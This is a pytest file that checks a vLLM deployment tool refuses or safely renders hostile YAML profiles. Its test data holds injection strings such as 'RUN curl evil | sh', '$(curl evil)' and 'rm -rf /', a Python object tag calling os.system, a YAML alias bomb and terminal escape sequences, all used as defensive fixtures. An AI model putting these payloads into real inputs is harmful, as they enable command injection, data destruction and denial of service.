"""Hostile profiles and command lines: nothing injects, leaks, hangs or half-writes.

Each case is a profile an attacker or a careless user could write. It ends one of two ways, both
pinned here: exit 2 with the message that says what is wrong (never a traceback, never the canary
secret), or a render that is proven safe for where each value goes (Dockerfile, shell, compose,
Kubernetes). The resource cases also run as a child process under a 500 MB address-space limit and
a 10 s timeout.
"""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from deploy.errors import is_unsafe
from deploy.plan import resolve
from deploy.render import render
from deploy.spec import load_profile
from tests.conftest import REPO, kubernetes_expand

CANARY = "sk-canary-7f3c9a1e5b2d4c6f8a0b1c2d3e4f5a6b"
BASE: dict[str, Any] = {
    "name": "demo",
    "model": {"source": "/models/demo"},
    "engine": {"dtype": "auto", "max-model-len": 2048, "gpu-memory-utilization": 0.9, "trust-remote-code": False},
    "api-key": {"env": "VLLM_API_KEY"},
    "kubernetes": {"node-selector": {"vllm-deploy/model": "demo"}},
}


def profile(**changes: Any) -> str:
    """BASE with dotted-key changes, e.g. profile(**{"image.base": "x"}); None deletes the key."""
    data = yaml.safe_load(yaml.safe_dump(BASE))
    for dotted, value in changes.items():
        *parents, last = dotted.split(".")
        node = data
        for part in parents:
            node = node.setdefault(part, {})
        if value is None:
            node.pop(last, None)
        else:
            node[last] = value
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def args(*items: str) -> str:
    return profile(**{"engine.extra-args": list(items)})


# Built images on a cluster need a registry (or kubernetes.local-images).
REGISTRY = {"image.registry": "registry.example.com/ml"}
CPU_TINY = {"image.device": "cpu", "engine.kv-cache-space-gib": 1, "model.storage": "tiny", "kubernetes": None}
BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
)

# (id, profile text, substrings the error must contain). Every one exits 2.
REFUSED: list[tuple[str, str, list[str]]] = [
    # --- injection into the Dockerfile and the build shell
    (
        "base-newline-run",
        profile(**{"image.base": "vllm/vllm-openai:v0.32.0\nRUN curl evil | sh"}),
        ["image.base: expected an image reference"],
    ),
    (
        "base-as-stage",
        profile(**{"image.base": "vllm/vllm-openai:v0.32.0 AS x"}),
        ["image.base: expected an image reference"],
    ),
    ("base-command-substitution", profile(**{"image.base": "$(id):1"}), ["image.base: expected an image reference"]),
    (
        "base-platform-option",
        profile(**{"image.base": "--platform=linux/amd64 x:1"}),
        ["image.base: expected an image reference"],
    ),
    (
        "base-latest",
        profile(**{"image.base": "vllm/vllm-openai:latest"}),
        ["image.base: expected a pinned image reference"],
    ),
    (
        "pip-command-substitution",
        profile(**{"image.extra-pip": ["$(curl evil)"]}),
        ["image.extra-pip.0: expected a PEP 508 requirement"],
    ),
    ("pip-backticks", profile(**{"image.extra-pip": ["`id`"]}), ["image.extra-pip.0: expected a PEP 508 requirement"]),
    (
        "pip-index-url-option",
        profile(**{"image.extra-pip": ["--index-url https://evil.example/simple"]}),
        ["expected a PEP 508"],
    ),
    ("pip-requirements-file", profile(**{"image.extra-pip": ["-r /etc/passwd"]}), ["expected a PEP 508"]),
    ("pip-semicolon", profile(**{"image.extra-pip": ["timm==1.0; rm -rf /"]}), ["expected a PEP 508"]),
    ("pip-newline", profile(**{"image.extra-pip": ["timm==1.0\nRUN evil"]}), ["expected a PEP 508"]),
    ("pip-http-url", profile(**{"image.extra-pip": ["pkg @ http://insecure.example/pkg.whl"]}), ["must use https://"]),
    (
        "tiny-source-substitution",
        profile(**{**CPU_TINY, "model.source": "/models/x$(id)"}),
        ["model.source: storage 'tiny' needs an absolute path"],
    ),
    (
        "host-source-space",
        profile(**{"model.source": "/models/a b"}),
        ["model.source: storage 'host' needs an absolute path"],
    ),
    ("host-source-newline", profile(**{"model.source": "/models/x\nRUN evil"}), ["model.source: storage 'host' needs"]),
    (
        "host-source-relative",
        profile(**{"model.source": "models/x", "model.storage": "host"}),
        ["needs an absolute path"],
    ),
    (
        "ca-bundle-semicolon",
        profile(**{**CPU_TINY, "image.ca-bundle": "/etc/ssl/x;rm -rf /"}),
        ["image.ca-bundle: expected an absolute path"],
    ),
    (
        "registry-with-command",
        profile(**{"image.registry": "evil.example/x; rm"}),
        ["image.registry: expected a registry host"],
    ),
    (
        "registry-uppercase",
        profile(**{"image.registry": "Registry.Example.com/ml"}),
        ["image.registry: expected a registry host"],
    ),
    ("name-path", profile(name="../etc"), ["name: expected lowercase letters"]),
    ("name-trailing-newline", profile(name="demo\n"), ["name: expected lowercase letters"]),
    ("description-newline", profile(description="one\ntwo"), ["description: expected a string of letters"]),
    (
        "prompt-control-character",
        profile(**{"smoke.prompt": "say \x1b[2J"}),
        ["smoke.prompt: expected a string of letters"],
    ),
    ("image-url-javascript", profile(**{"smoke.image-url": "javascript:alert(1)"}), ["smoke.image-url"]),
    ("image-url-space", profile(**{"smoke.image-url": "http://a.example/x y.jpg"}), ["smoke.image-url"]),
    ("served-name-expansion", profile(**{"model.served-name": "$(VLLM_API_KEY)"}), ["model.served-name"]),
    (
        "revision-semicolon",
        profile(**{"model.source": "org/model", "model.revision": "main; rm -rf /", "kubernetes": None}),
        ["model.revision"],
    ),
    ("storage-class-space", profile(**{"kubernetes.storage-class": "Fast SSD"}), ["kubernetes.storage-class"]),
    (
        "runtime-class-newline",
        profile(**{"kubernetes.runtime-class-name": "nvidia\n"}),
        ["kubernetes.runtime-class-name"],
    ),
    (
        "node-selector-value-space",
        profile(**{"kubernetes.node-selector": {"a": "b c"}}),
        ["expected a Kubernetes label value"],
    ),
    (
        "node-selector-key-expansion",
        profile(**{"kubernetes.node-selector": {"$(X)": "b"}}),
        ["expected a Kubernetes label key"],
    ),
    (
        "hub-id-trailing-newline",
        profile(**{"model.source": "Qwen/Qwen2.5-VL-7B-Instruct\n", "kubernetes": None}),
        ["model.source: expected a Hugging Face id"],
    ),
    (
        "hub-id-with-url",
        profile(**{"model.source": "https://evil.example/x", "model.storage": "hub", "kubernetes": None}),
        ["model.source: expected a Hugging Face id"],
    ),
    # --- the flag guard: every spelling vLLM's parser would accept
    (
        "flag-api-key-prefix",
        args("--api-ke", CANARY),
        ["'--api-ke' (read by vLLM as --api-key) duplicates api-key.env"],
    ),
    ("flag-api-key-underscore", args(f"--api_key={CANARY}"), ["read by vLLM as --api-key"]),
    ("flag-api-key-append", args("--api-key+", CANARY), ["duplicates api-key.env"]),
    ("flag-api-ambiguous", args("--api", CANARY), ["'--api' is ambiguous in vLLM 0.32"]),
    (
        "flag-config",
        args("--config", "/tmp/more-flags.yaml"),
        ["'--config' is refused: it reads more flags from a file"],
    ),
    ("flag-config-equals", args("--config=/tmp/x.yaml"), ["'--config' is refused"]),
    ("flag-config-prefix", args("--conf", "x.yaml"), ["is ambiguous"]),
    ("flag-dotted-modelled", args("--limit-mm-per-prompt.image", "5"), ["duplicates engine.limit-mm-per-prompt"]),
    ("flag-dotted-equals", args("--max-model-len.x=1"), ["duplicates engine.max-model-len"]),
    ("flag-two-in-one-item", args("--enforce-eager --api-key sk-x"), ["item 0: one flag per item"]),
    ("flag-port", args("--port=9000"), ["duplicates server.port"]),
    ("flag-host", args("--host", "0.0.0.0"), ["duplicates server.bind-address"]),
    ("flag-short-tp", args("-tp", "2"), ["item 0: '-tp' duplicates engine.tensor-parallel-size"]),
    ("flag-tp-underscore", args("--tensor_parallel_size=2"), ["duplicates engine.tensor-parallel-size"]),
    (
        "flag-local-media",
        args("--allowed-local-media-path", "/"),
        ["is refused: it lets clients read files inside the container"],
    ),
    ("flag-uds", args("--uds", "/tmp/vllm.sock"), ["is refused: it serves on a socket"]),
    ("flag-model", args("--model", "other/model"), ["duplicates model.source"]),
    ("flag-served-name", args("--served-model-name", "x"), ["duplicates model.served-name"]),
    ("flag-ambiguous-prefix", args("--max-num", "8"), ["item 0: '--max-num' is ambiguous in vLLM 0.32"]),
    (
        "flag-typo",
        args("--enable-prefx-caching"),
        ["is not a `vllm serve` flag (did you mean '--enable-prefix-caching'?)"],
    ),
    ("flag-no-form", args("--no-enforce-eager"), ["duplicates engine.enforce-eager"]),
    ("flag-gmu-prefix", args("--gpu-memory-util", "1"), ["read by vLLM as --gpu-memory-utilization"]),
    ("flag-trust-prefix", args("--trust-remote"), ["duplicates engine.trust-remote-code"]),
    ("flag-kv-bytes-prefix", args("--kv-cache-memory", "1"), ["duplicates engine.kv-cache-space-gib"]),
    ("flag-revision", args("--revision", "x"), ["duplicates model.revision"]),
    ("flag-case", args("--API-KEY", CANARY), ["is not a `vllm serve` flag"]),
    ("flag-secret-looking", args(f"--{CANARY}"), ["(a flag that may hold a secret)"]),
    # --- secrets in the wrong place are never repeated
    ("dotenv-as-profile", f"VLLM_API_KEY={CANARY}\n", ["expected a mapping of keys at the top level, got a string of"]),
    ("inline-key", profile(**{"api-key": CANARY}), ["api-key: expected a reference like {env: VLLM_API_KEY}"]),
    (
        "key-as-env-name",
        profile(**{"api-key.env": CANARY}),
        ["api-key.env: expected an environment variable name", "not shown: it may be a secret"],
    ),
    ("hf-token-as-env-name", profile(**{"api-key.env": "hf_abcdefghijklmnop"}), ["not shown: it may be a secret"]),
    ("key-as-name", profile(name=CANARY), ["name: expected at most 40 characters, got 42"]),
    ("key-like-name", profile(name="sk-Canary"), ["name: expected lowercase letters", "not shown"]),
    ("key-as-unknown-key", profile(**{CANARY: 1}), ["(a key that may be a secret): unknown key"]),
    ("password-key", profile(**{"engine.password": "hunter2"}), ["unknown key"]),
    ("key-as-dtype", profile(**{"engine.dtype": CANARY}), ["engine.dtype: expected one of", "not shown"]),
    (
        "key-as-bind-address",
        profile(**{"server.bind-address": CANARY}),
        ["server.bind-address: expected an IP address"],
    ),
    # --- values with security meaning
    ("key-from-path", profile(**{"api-key.env": "PATH"}), ["PATH is a variable the container or vLLM reads"]),
    ("key-from-ld-preload", profile(**{"api-key.env": "LD_PRELOAD"}), ["LD_PRELOAD is a variable"]),
    ("key-from-hf-token", profile(**{"api-key.env": "HF_TOKEN"}), ["HF_TOKEN is a variable"]),
    ("key-from-vllm-variable", profile(**{"api-key.env": "VLLM_HOST_IP"}), ["VLLM_HOST_IP is a variable"]),
    ("key-from-pythonpath", profile(**{"api-key.env": "PYTHONPATH"}), ["PYTHONPATH is a variable"]),
    ("key-from-home", profile(**{"api-key.env": "HOME"}), ["HOME is a variable"]),
    ("bind-empty", profile(**{"server.bind-address": ""}), ["server.bind-address: expected an IP address"]),
    ("bind-hostname", profile(**{"server.bind-address": "localhost"}), ["expected an IP address"]),
    ("bind-trailing-space", profile(**{"server.bind-address": "0.0.0.0 "}), ["expected an IP address"]),
    ("bind-out-of-range", profile(**{"server.bind-address": "999.1.1.1"}), ["expected an IP address"]),
    ("bind-with-port", profile(**{"server.bind-address": "127.0.0.1:80"}), ["expected an IP address"]),
    (
        "policy-from-empty",
        profile(**{"kubernetes.network-policy-from": {}}),
        ["kubernetes.network-policy-from: expected at least 1 item"],
    ),
    ("media-domain-url", profile(**{"media.allowed-domains": ["http://images.example"]}), ["expected a host name"]),
    (
        "media-redirects-with-allowlist",
        profile(**{"media.allowed-domains": ["images.example"], "media.allow-redirects": True}),
        ["media.allow-redirects: cannot be true with allowed-domains"],
    ),
    (
        "blocked-networks-without-policy",
        profile(**{"media.blocked-networks": ["10.0.0.0/8"]}),
        ["set kubernetes.egress-policy: true"],
    ),
    (
        "blocked-network-host-bits",
        profile(**{"media.blocked-networks": ["10.0.0.1/8"], "kubernetes.egress-policy": True}),
        ["media.blocked-networks: expected a network like 10.0.0.0/8 (host bits zero)"],
    ),
    (
        "blocked-network-garbage",
        profile(**{"media.blocked-networks": ["everything"], "kubernetes.egress-policy": True}),
        ["expected a network like"],
    ),
    ("utilization-1-on-cuda", profile(**{"engine.gpu-memory-utilization": 1}), ["at most 0.95 on cuda"]),
    # --- types and bounds: the schema and the validator agree
    ("port-yes", profile(**{"server.port": True}), ["server.port: expected an integer, got True (bool)"]),
    ("port-quoted", profile(**{"server.port": "8000"}), ["server.port: expected an integer, got '8000' (str)"]),
    ("max-model-len-quoted", profile(**{"engine.max-model-len": "2048"}), ["expected an integer, got '2048' (str)"]),
    ("replicas-huge", profile(replicas=10**30), ["replicas: expected a number of at most 64"]),
    ("utilization-nan", profile(**{"engine.gpu-memory-utilization": float("nan")}), ["engine.gpu-memory-utilization"]),
    ("utilization-inf", profile(**{"engine.gpu-memory-utilization": float("inf")}), ["engine.gpu-memory-utilization"]),
    (
        "trust-remote-code-string",
        profile(**{"engine.trust-remote-code": "true"}),
        ["expected true or false, got 'true' (str)"],
    ),
    ("trust-remote-code-int", profile(**{"engine.trust-remote-code": 1}), ["expected true or false, got 1 (int)"]),
    (
        "stop-id-negative",
        profile(**{"smoke.stop-token-ids": [-1]}),
        ["smoke.stop-token-ids.0: expected a number of at least 0"],
    ),
    ("tp-huge", profile(**{"engine.tensor-parallel-size": 10**6, "resources.gpus": 10**6}), ["at most 64"]),
    ("mm-limit-huge", profile(**{"engine.limit-mm-per-prompt": {"image": 10**9}}), ["at most 1000"]),
    ("memory-zero", profile(**{"resources.memory-gib": 0}), ["resources.memory-gib: expected a number of at least 1"]),
    (
        "dtype-null",
        profile(**{"engine.dtype": None}).replace("engine:\n", "engine:\n  dtype: null\n"),
        ["engine.dtype: expected one of"],
    ),
    (
        "engine-list",
        profile().replace("engine:\n", "engine: []\nx_engine:\n"),
        ["engine: expected a mapping, got a list"],
    ),
    ("kubernetes-string", profile(kubernetes="x"), ["kubernetes: expected a mapping"]),
    (
        "extra-args-not-strings",
        profile(**{"engine.extra-args": [1, True]}),
        ["engine.extra-args.0: expected a string, got 1 (int)"],
    ),
    ("big-yaml-int", profile().replace("max-model-len: 2048", "max-model-len: " + "9" * 400), ["engine.max-model-len"]),
    (
        "nan-int",
        profile().replace("max-model-len: 2048", "max-model-len: .nan"),
        ["expected an integer, got nan (float)"],
    ),
    # --- YAML features that crashed or exploded
    ("alias-bomb", BOMB, ["expands to more than 20000 values"]),
    ("recursive-alias", "a: &a [*a]\n", ["an alias refers to itself"]),
    ("list-as-key", "? [a, b]\n: 1\n", ["keys must be plain names"]),
    ("mapping-as-key", "{a: 1}: x\n", ["keys must be plain names"]),
    ("merge-key", "base: &b {dtype: auto}\nengine:\n  <<: *b\n", ["keys must be plain names"]),
    (
        "date-label",
        profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-01-01"),
        ["kubernetes.node-selector.vllm-deploy/model: expected a string, got a date value"],
    ),
    (
        "binary-toleration",
        profile().replace("kubernetes:\n", "kubernetes:\n  tolerations: [{key: !!binary aGVsbG8=}]\n"),
        ["kubernetes.tolerations.0.key: expected a string, got binary data"],
    ),
    (
        "toleration-list-key",
        profile(**{"kubernetes.tolerations": [{"key": ["a", "b"]}]}),
        ["kubernetes.tolerations.0.key: expected a string, got a list"],
    ),
    (
        "toleration-unknown-field",
        profile(**{"kubernetes.tolerations": [{"key": "a", "efect": "NoSchedule"}]}),
        ["kubernetes.tolerations.0.efect: unknown key"],
    ),
    (
        "date-in-affinity",
        profile().replace("kubernetes:\n", "kubernetes:\n  node-affinity: {when: [2024-01-01]}\n"),
        ["kubernetes.node-affinity.when.0: expected a string, got a date value"],
    ),
    ("deep-nesting", "a: " + "[" * 60 + "]" * 60 + "\n", ["nested deeper than 40 levels"]),
    ("very-deep-nesting", "a: " + "[" * 5000 + "]" * 5000 + "\n", ["nested deeper than 40 levels"]),
    ("python-tag", "name: !!python/object/apply:os.system [id]\n", ["could not determine a constructor"]),
    ("set-tag", profile() + "x: !!set {a, b}\n", ["x: unknown key"]),
    ("int-key", "1: x\n", ["p.yaml:1: 1: keys should be strings, got 1 (int)"]),
    ("tab-indent", "name: demo\nmodel:\n\tsource: /x\n", ["YAML syntax error"]),
    ("nul-byte", "name: de\x00mo\n", ["YAML"]),
    (
        "impossible-date",
        profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-02-31"),
        ["a value cannot be read"],
    ),
    # --- crashes measured as tracebacks, and text that reached the terminal raw (#17)
    (
        "hex-int-past-str-limit",
        profile().replace("max-model-len: 2048", "max-model-len: 0x" + "f" * 5000),
        ["p.yaml:6: engine.max-model-len: integer too large: 5002 characters (a profile value has at most 1000)"],
    ),
    (
        "binary-int-past-str-limit",
        profile().replace("max-model-len: 2048", "max-model-len: 0b" + "1" * 20000),
        ["p.yaml:6: engine.max-model-len: integer too large: 20002 characters (a profile value has at most 1000)"],
    ),
    (
        "decimal-int-past-str-limit",
        profile(**{"smoke.stop-token-ids": [7]}).replace("- 7", "- " + "9" * 5000),
        ["smoke.stop-token-ids.0: integer too large: 5000 characters (a profile value has at most 1000)"],
    ),
    (
        "mm-kwargs-string-qwen",
        profile(
            **{
                "model.architecture": "Qwen2_5_VLForConditionalGeneration",
                "engine.mm-processor-kwargs": {"max_pixels": "big"},
            }
        ),
        ["p.yaml:9: engine.mm-processor-kwargs.max_pixels: expected an integer\n"],
    ),
    (
        "mm-kwargs-string-minicpm",
        profile(**{"model.architecture": "MiniCPMV", "engine.mm-processor-kwargs": {"max_slice_nums": "9"}}),
        ["p.yaml:9: engine.mm-processor-kwargs.max_slice_nums: expected an integer\n"],
    ),
    (
        "unknown-key-escape",
        profile() + '"\\e[2J\\e]0;owned\\a": 1\n',
        ["p.yaml:14: \\x1b[2J\\x1b]0;owned\\x07: unknown key; expected one of: api-key"],
    ),
    (
        "unknown-key-bidi",
        profile() + "evil\u202egnp.exe: 1\nx\u2066y: 2\n",
        ["p.yaml:14: evil\\u202egnp.exe: unknown key", "p.yaml:15: x\\u2066y: unknown key"],
    ),
    ("unknown-nested-key-escape", profile(**{"engine.\x9b\u2028x": 1}), ["engine.\\x9b\\u2028x: unknown key"]),
]

# (id, profile text, check of the rendered files): valid, and safe where each value goes.
Check = Callable[[Any, dict[str, str]], None]


def k8s_args(files: dict[str, str], name: str = "demo") -> tuple[list[str], list[str]]:
    deployment = yaml.safe_load(files[f"k8s/{name}/deployment.yaml"])
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    return container["command"], container["args"]


def expansion_safe(plan: Any, files: dict[str, str]) -> None:
    """What Kubernetes and compose hand the container is exactly the plan's argv, key variable defined."""
    command, arguments = k8s_args(files)
    env = {"VLLM_API_KEY": CANARY, "HOME": "/root"}
    assert [kubernetes_expand(a, env) for a in arguments] == plan.argv
    assert [kubernetes_expand(a, env) for a in command] == plan.entrypoint
    service = yaml.safe_load(files["compose/demo/compose.yaml"])["services"]["vllm"]
    assert [a.replace("$$", "$") for a in service["command"]] == plan.argv
    assert all("$" not in a.replace("$$", "") for a in service["command"]), "an unescaped $ reaches compose"


def pip_line_safe(plan: Any, files: dict[str, str]) -> None:
    import shlex

    dockerfile = files["compose/demo/Dockerfile"]
    line = next(line for line in dockerfile.splitlines() if "pip install --no-cache-dir" in line)
    words = shlex.split(line.split("--no-cache-dir", 1)[1])
    assert words == plan.image.extra_pip  # each requirement one shell word, nothing else


def redirects_off(plan: Any, files: dict[str, str]) -> None:
    service = yaml.safe_load(files["compose/demo/compose.yaml"])["services"]["vllm"]
    assert service["environment"]["VLLM_MEDIA_URL_ALLOW_REDIRECTS"] == "0"
    assert plan.environment["VLLM_MEDIA_URL_ALLOW_REDIRECTS"] == "0"


def ipv6_published(plan: Any, files: dict[str, str]) -> None:
    service = yaml.safe_load(files["compose/demo/compose.yaml"])["services"]["vllm"]
    assert service["ports"] == ["[::1]:8000:8000"] and plan.local_endpoint == "http://[::1]:8000"


def digest_base(plan: Any, files: dict[str, str]) -> None:
    assert files["compose/demo/Dockerfile"].splitlines()[1] == f"FROM {plan.image.base}"


def egress_blocks_metadata(plan: Any, files: dict[str, str]) -> None:
    policy = yaml.safe_load(files["k8s/demo/networkpolicy.yaml"])["spec"]
    blocks = [rule["to"][0]["ipBlock"] for rule in policy["egress"] if "to" in rule]
    assert blocks[0]["cidr"] == "0.0.0.0/0" and "169.254.0.0/16" in blocks[0]["except"]
    assert "10.0.0.0/8" in blocks[0]["except"] and "Egress" in policy["policyTypes"]


def nothing_raw(plan: Any, files: dict[str, str]) -> None:
    """Bidi controls, U+2028 and C1 reach no rendered file raw, and every file still says the same value."""
    expansion_safe(plan, files)
    for path, text in files.items():
        assert not [c for c in text if is_unsafe(c) and c != "\n"], path


SAFE: list[tuple[str, str, Check]] = [
    ("value-kubernetes-expansion", args("--override-generation-config", '{"x": "$(VLLM_API_KEY)"}'), expansion_safe),
    ("value-escaped-expansion", args("--override-generation-config", '{"x": "$$(VLLM_API_KEY)"}'), expansion_safe),
    ("value-shell-variables", args("--override-generation-config", '{"x": "${VLLM_API_KEY} $HOME $"}'), expansion_safe),
    ("value-compose-interpolation", args("--response-role", "${VLLM_API_KEY:?x}"), expansion_safe),
    ("value-negative-number", args("--seed", "-1"), expansion_safe),
    ("value-json-with-dollar-paren", args("--override-generation-config", '{"a": "$(", "b": ")$"}'), expansion_safe),
    (
        "pip-url-requirement",
        profile(**{"image.extra-pip": ["pkg @ https://example.com/pkg-1.0-py3-none-any.whl"], **REGISTRY}),
        pip_line_safe,
    ),
    (
        "pip-markers-and-extras",
        profile(**{"image.extra-pip": ["timm[extra]>=1,<2; python_version > '3.8'"], **REGISTRY}),
        pip_line_safe,
    ),
    ("pip-several", profile(**{"image.extra-pip": ["a==1", "b>=2", "c[x]"], **REGISTRY}), pip_line_safe),
    ("allowlist-turns-redirects-off", profile(**{"media.allowed-domains": ["images.example"]}), redirects_off),
    ("ipv6-loopback", profile(**{"server.bind-address": "::1"}), ipv6_published),
    (
        "base-by-digest",
        profile(**{"image.base": "registry.example.com/vllm@sha256:" + "a" * 64, **REGISTRY}),
        digest_base,
    ),
    (
        "egress-policy",
        profile(**{"kubernetes.egress-policy": True, "media.blocked-networks": ["10.0.0.0/8"]}),
        egress_blocks_metadata,
    ),
    ("valid-extra-flag", args("--enable-prefix-caching", "-O3"), expansion_safe),
    ("value-bidi-and-line-separator", args("--response-role", "a\u2028b\u202ec\u2066d\x7f"), nothing_raw),
]


def validate(cli, tmp_path: Path, text: str):
    (tmp_path / "p.yaml").write_text(text, encoding="utf-8")
    return cli("validate", "p.yaml", cwd=tmp_path)


def test_there_are_at_least_a_hundred_hostile_cases():
    assert len(REFUSED) + len(SAFE) >= 100
    assert len({c[0] for c in REFUSED + SAFE}) == len(REFUSED) + len(SAFE)  # unique ids


@pytest.mark.parametrize("case_id, text, needles", REFUSED, ids=[c[0] for c in REFUSED])
def test_hostile_profile_is_refused_clearly(cli, tmp_path, case_id, text, needles):
    result = validate(cli, tmp_path, text)
    assert result.code == 2, (result.out, result.err)
    assert result.out == ""
    assert result.err.startswith("error: ")
    assert "Traceback" not in result.err
    assert CANARY not in result.err
    assert "p.yaml" in result.err  # where it is
    assert not [c for c in result.err if is_unsafe(c) and c != "\n"], "a raw control character reached the terminal"
    for needle in needles:
        assert needle in result.err, result.err


@pytest.mark.parametrize("case_id, text, check", SAFE, ids=[c[0] for c in SAFE])
def test_hostile_but_valid_profile_renders_safely(cli, tmp_path, case_id, text, check):
    result = validate(cli, tmp_path, text)
    assert result.code == 0, result.err
    plan = resolve(load_profile(str(tmp_path / "p.yaml")))
    check(plan, render(plan))


# ---------------------------------------------------------------------------------------------
# Files that are not profiles, and limits on time and memory


def test_a_fifo_is_refused_without_blocking(cli, tmp_path):
    os.mkfifo(tmp_path / "p.yaml")
    result = cli("validate", "p.yaml", cwd=tmp_path)
    assert (result.code, result.err) == (
        2,
        "error: p.yaml: is not a regular file (a device, FIFO or socket); expected a profile YAML file\n",
    )


def test_dev_zero_is_refused(cli):
    result = cli("validate", "/dev/zero")
    assert result.code == 2 and "not a regular file" in result.err


def test_a_file_over_one_mebibyte_is_refused(cli, tmp_path):
    (tmp_path / "p.yaml").write_text(profile() + "# " + "x" * (1 << 20) + "\n")
    result = cli("validate", "p.yaml", cwd=tmp_path)
    assert result.code == 2 and "a profile may be at most 1048576 bytes (1 MiB)" in result.err


def test_invalid_utf8_is_refused(cli, tmp_path):
    (tmp_path / "p.yaml").write_bytes(profile().encode() + b"# \xff\xfe\n")
    result = cli("validate", "p.yaml", cwd=tmp_path)
    assert result.code == 2 and "profile is not UTF-8 text" in result.err


def bounded(command: list[str], cwd: Path) -> subprocess.CompletedProcess:
    """The CLI as a child process with at most 500 MB of address space and 10 s."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (500 << 20, 500 << 20))

    return subprocess.run(
        [sys.executable, "-m", "deploy", *command],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=10,
        preexec_fn=limit,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )


@pytest.mark.parametrize(
    "case_id", ["alias-bomb", "recursive-alias", "very-deep-nesting", "big-yaml-int", "hex-int-past-str-limit"]
)
def test_resource_cases_stay_within_500_mb_and_10_s(tmp_path, case_id):
    text = next(t for i, t, _ in REFUSED if i == case_id)
    (tmp_path / "p.yaml").write_text(text, encoding="utf-8")
    done = bounded(["validate", "p.yaml"], tmp_path)
    assert done.returncode == 2, done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr


def test_thousands_of_problems_are_a_short_message(cli, tmp_path):
    (tmp_path / "p.yaml").write_text(profile() + "".join(f"unknown{i}: 1\n" for i in range(3000)))
    result = cli("validate", "p.yaml", cwd=tmp_path)
    lines = result.err.splitlines()
    assert result.code == 2 and lines[0] == "error: p.yaml is invalid (3000 problems):"
    assert len(lines) == 52 and lines[-1] == "  … and 2950 more"
    assert len(result.err) < 20_000


def test_a_fifo_does_not_hang_a_child_process(tmp_path):
    os.mkfifo(tmp_path / "p.yaml")
    done = bounded(["render", "p.yaml", "--out", str(tmp_path / "out")], tmp_path)
    assert done.returncode == 2 and "not a regular file" in done.stderr


# ---------------------------------------------------------------------------------------------
# Command-line misuse


def test_render_with_profiles_and_all_is_refused(cli, tmp_path):
    result = cli("render", "tiny-cpu", "--all", "--out", str(tmp_path))
    assert (result.code, result.err) == (2, "error: render: name profiles or pass --all, not both\n")
    assert not any(tmp_path.iterdir())


def test_two_profiles_with_one_name_write_nothing(cli, tmp_path):
    (tmp_path / "a.yaml").write_text(profile())
    (tmp_path / "b.yaml").write_text(profile(**{"server.port": 9000}))
    result = cli("render", "a.yaml", "b.yaml", "--out", "out", cwd=tmp_path)
    assert result.code == 2
    assert "b.yaml and a.yaml are both named 'demo': their files would overwrite each other" in result.err
    assert not (tmp_path / "out").exists()


def test_empty_out_is_refused(cli, tmp_path):
    result = cli("render", "tiny-cpu", "--out", "", cwd=tmp_path)
    assert (result.code, result.err) == (2, "error: render: --out needs a directory (it was empty)\n")
    assert not any(tmp_path.iterdir())


def test_out_pointing_at_a_file_is_refused(cli, tmp_path):
    (tmp_path / "file").write_text("keep\n")
    result = cli("render", "tiny-cpu", "--out", "file", cwd=tmp_path)
    assert result.code == 2 and "file: is not a directory" in result.err
    assert (tmp_path / "file").read_text() == "keep\n"


def test_a_directory_where_a_file_goes_changes_nothing(cli, tmp_path):
    assert cli("render", "tiny-cpu", "--out", str(tmp_path)).code == 0
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    compose_file = tmp_path / "compose" / "tiny-cpu" / "compose.yaml"
    compose_file.unlink()
    compose_file.mkdir()
    (tmp_path / "compose" / "tiny-cpu" / "Dockerfile").write_text("edited\n")
    result = cli("render", "tiny-cpu", "--out", str(tmp_path))
    assert result.code == 2 and "compose.yaml: is a directory where a file is needed" in result.err
    assert (tmp_path / "compose" / "tiny-cpu" / "Dockerfile").read_text() == "edited\n"  # nothing replaced
    after = {p for p in tmp_path.rglob("*") if p.is_file()}
    assert after == (set(before) - {compose_file}), "files appeared or vanished"
    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(".vllm-deploy-render-") or p.suffix == ".tmp"]


def test_arguments_after_double_dash_are_refused_outside_smoke(cli):
    result = cli("validate", "tiny-cpu", "--", "-k", "x")
    assert result.code == 2 and "arguments after -- go to the smoke suite's pytest; `validate` takes none" in result.err


def test_an_empty_profile_reference_is_refused(cli):
    result = cli("validate", "")
    assert result.code == 2 and "expected a profile name or a path" in result.err


def test_one_bad_profile_among_several_writes_nothing(cli, tmp_path):
    (tmp_path / "bad.yaml").write_text(args("--api-ke", CANARY))
    result = cli("render", "tiny-cpu", "bad.yaml", "--out", "out", cwd=tmp_path)
    assert result.code == 2 and "nothing was written" in result.err and CANARY not in result.err
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------------------------
# The published schema and the validator agree


TYPE_AND_BOUND_CASES = [
    "port-yes",
    "port-quoted",
    "max-model-len-quoted",
    "replicas-huge",
    "utilization-inf",
    "trust-remote-code-string",
    "trust-remote-code-int",
    "stop-id-negative",
    "mm-limit-huge",
    "memory-zero",
    "kubernetes-string",
    "extra-args-not-strings",
    "name-trailing-newline",
    "registry-uppercase",
    "policy-from-empty",
    "node-selector-value-space",
    "base-newline-run",
    "toleration-unknown-field",
]


def schema_validator():
    """A JSON Schema validator with ECMA-262 patterns, as JSON Schema (and editors) define them.

    NB: Python's `re` lets `$` match before a trailing newline; ECMA's `$` does not (regress is the
    ECMA engine check-jsonschema uses).
    """
    import jsonschema
    import regress

    from deploy.spec import json_schema

    def ecma_pattern(validator, pattern, instance, schema):
        if validator.is_type(instance, "string") and regress.Regex(pattern).find(instance) is None:
            yield jsonschema.ValidationError(f"does not match {pattern!r}")

    validator = jsonschema.validators.extend(jsonschema.Draft202012Validator, {"pattern": ecma_pattern})
    return validator(json_schema())


@pytest.mark.parametrize("case_id", TYPE_AND_BOUND_CASES)
def test_the_published_schema_refuses_what_the_validator_refuses(case_id):
